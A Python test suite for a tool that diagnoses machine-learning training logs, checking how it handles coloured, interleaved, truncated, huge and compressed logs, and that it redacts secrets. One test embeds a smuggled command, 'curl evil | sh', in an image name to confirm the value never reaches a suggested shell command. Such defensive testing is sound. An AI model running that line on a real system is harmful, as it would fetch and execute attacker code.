"""Logs as they are: coloured, interleaved, cut, huge, hostile."""

from __future__ import annotations

import gzip
import tracemalloc

import pytest

from embark.diagnose.report import diagnose
from embark.diagnose.source import sources_of
from embark.errors import UserError

OOM = b"torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 6.10 GiB."


@pytest.fixture
def look(tmp_path):
    def looked(data: bytes, name: str = "train.log"):
        path = tmp_path / name
        path.write_bytes(data)
        return diagnose(sources_of([str(path)]).sources)

    return looked


@pytest.mark.parametrize(
    "line",
    [
        b"[rank3]: " + OOM, b"dlrm-0 | 2026-11-15T09:00:04.101Z [rank3]: " + OOM,
        b"\x1b[31mtorch.OutOf\x1b[0mMemoryError: CUDA\x1b[1m out of memory\x1b[0m. Tried to allocate 6.10 GiB.",
        b"\xff\xfe\x80 caf\xe9 " + OOM, b"10%|#  | 1/10\r20%|## | 2/10\r" + OOM + b"\r", OOM + b"\r",
        b"\x1b]0;title\x07" + OOM, b"x" * 1_200_000 + b" " + OOM + b" " + b"y" * 100,
    ],
    ids=["rank", "pod", "colours", "no utf-8", "progress bar", "crlf", "title", "a line of more than 1 MB"],
)
def test_a_line_is_known_whatever_is_around_it(look, line):
    report = look(b"one\ntwo\n" + line + b"\nfour\n")
    assert [one.name for one in report.diagnoses] == ["gpu-out-of-memory"]
    assert report.diagnoses[0].evidence.line == 3
    assert "OutOfMemory" in report.diagnoses[0].evidence.text
    assert len(report.diagnoses[0].evidence.text) <= 300


def test_the_last_line_counts_without_its_end_and_empty_files_say_nothing(look):
    assert look(b"a\n" + OOM).diagnoses[0].evidence.line == 2
    assert look(b"").diagnoses == ()
    assert look(b"\n\n\n").diagnoses == ()


def test_lines_that_differ_in_figures_alone_are_reported_apart(look):
    lines = [b"worker exited with code %d" % code for code in (100, 255, 137, 143)]
    report = look(b"\n".join(lines))
    assert [(one.name, one.evidence.line) for one in report.diagnoses] == [("killed", 3)]


def test_a_line_is_found_among_very_many_of_its_kind(look):
    steps = [b"step %d loss=0.%04d" % (n, n % 10_000) for n in range(60_000)]
    steps[31_111] = b"step 31111 loss=nan"
    report = look(b"\n".join(steps))
    assert [(one.name, one.evidence.line) for one in report.diagnoses] == [("loss-not-a-number", 31_112)]


def test_what_is_reported_at_the_end_of_a_long_run_is_heard(look, monkeypatch):
    monkeypatch.setattr("embark.diagnose.scan.MAX_NOTIFIED", 100)
    steps = [b"[rank0]: step %d step_s=0.1" % n for n in range(200)]
    ends = [b"[rank%d]:[E1115 09:15:00.1 x.cpp:1] [PG 0 Rank %d] Exception detected by watchdog at work: 7, last "
            b"enqueued NCCL work: %d, last completed NCCL work: 6." % (rank, rank, 7 if rank == 2 else 9)
            for rank in range(4)]
    report = look(b"\n".join([*steps, *ends]))
    assert [(one.name, one.ranks) for one in report.diagnoses] == [("rank-behind", (2,))]


@pytest.mark.parametrize("line", [
    b"the run stops when the loss is nan", b"if you see CUDA error: device-side assert triggered, look at the ids",
    b'If we get "No space left on device" we clean up',
    b"unless No space left on device: go on",
])
def test_what_is_to_be_done_should_it_come_is_not_taken_for_it(look, line):
    assert look(line).diagnoses == ()


@pytest.mark.parametrize("line", [
    b"aborted at step 7 when saving: OSError: [Errno 28] No space left on device",
    b"check if it fits: No space left on device",
])
def test_what_came_is_taken_though_a_condition_stands_before_it(look, line):
    assert [one.name for one in look(line).diagnoses] == ["disk-full"]


def test_ranks_and_lines_are_counted(look):
    report = look(b"".join(b"[rank%d]: %s\n" % (rank, OOM) for rank in (3, 1, 3, 7)))
    assert (report.diagnoses[0].num_lines, report.diagnoses[0].ranks) == (4, (1, 3, 7))


def test_memory_does_not_grow_with_the_log(tmp_path, monkeypatch):
    monkeypatch.setattr("embark.diagnose.scan.MAX_KNOWN", 400)
    monkeypatch.setattr("embark.diagnose.source.BLOCK_BYTES", 1 << 14)
    diagnose([])  # what is loaded once is not counted
    peaks = []
    for num_lines in (1_500, 6_000):
        path = tmp_path / f"{num_lines}.log"
        path.write_bytes(b"".join(b"2026-11-15T09:00:00Z worker %x: read part-%d in 0.3 s\n" % (
            n * 2654435761 % 2**32, n) for n in range(num_lines)))
        sources = sources_of([str(path)]).sources
        tracemalloc.start()
        assert diagnose(sources).diagnoses == ()
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < 1.2 * peaks[0], "the larger log is four times as long"


def test_a_packed_log_is_read_as_far_as_it_goes(look):
    packed = gzip.compress(b"a\n" * 1000 + OOM + b"\n" + bytes(range(256)) * 4000)
    assert look(packed, "a.log.gz").diagnoses[0].name == "gpu-out-of-memory"
    report = look(packed[:-9], "b.log.gz")
    assert "b.log.gz" in report.cut_short[0]


def test_values_of_a_log_that_a_shell_would_read_never_reach_a_command(look):
    report = look(b'Failed to pull image "x:1\'; curl evil | sh #": not found')
    assert report.diagnoses[0].name == "image-not-pulled"
    assert "curl" not in report.diagnoses[0].command
    assert look(b'Failed to pull image "acme/x:1"').diagnoses[0].command.endswith("inspect acme/x:1")


def test_control_characters_and_secrets_are_not_quoted(look):
    report = look(b"AccessDenied \x07\x08\x1b[2J https://acme.s3.amazonaws.com/x?X-Amz-Signature=abcdef0123 "
                  b"Authorization: Bearer eyJhbGciOi\xe2\x80\xae")
    text = report.diagnoses[0].evidence.text
    assert all(char.isprintable() for char in text)
    assert "abcdef0123" not in text
    assert "eyJhbGciOi" not in text


def test_causes_come_before_what_follows_from_them_and_by_time(tmp_path):
    (tmp_path / "a.log").write_text("2026-11-15T09:05:00Z OSError: [Errno 28] No space left on device\n"
                                    "2026-11-15T09:06:00Z ncclRemoteError: A call failed\n")
    (tmp_path / "b.log").write_text("2026-11-15 09:04:00,120 ERROR OSError: [Errno 24] Too many open files\n")
    report = diagnose(sources_of([str(tmp_path)]).sources)
    assert [one.name for one in report.diagnoses] == ["too-many-open-files", "disk-full"]
    assert report.diagnoses[0].follows == ("peer-went-away",)


def test_nothing_of_a_log_is_executed_or_formatted(look):
    report = look(b"LocalQueue {0.__class__} doesn't exist\nLocalQueue q{cause} is inactive\n"
                  b"ModuleNotFoundError: No module named 'torchrec'\n")
    assert {one.name for one in report.diagnoses} == {"package-missing"}
    assert "torchrec" in report.diagnoses[0].cause


def test_files_that_are_no_text_are_passed_over_in_a_folder(tmp_path):
    (tmp_path / "core").write_bytes(b"\x7fELF\0\0" + OOM)
    (tmp_path / "run.log").write_bytes(b"fine\n")
    given = sources_of([str(tmp_path)])
    assert [source.name for source in given.sources] == [str(tmp_path / "run.log")]
    assert given.skipped == (str(tmp_path / "core"),)


@pytest.mark.parametrize("words", [[], ["-", "-"], ["no-such-run"], ["--jsno"]])
def test_what_cannot_be_looked_at_is_an_error_with_a_fix(words, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(UserError) as raised:
        sources_of(words)
    assert raised.value.fix
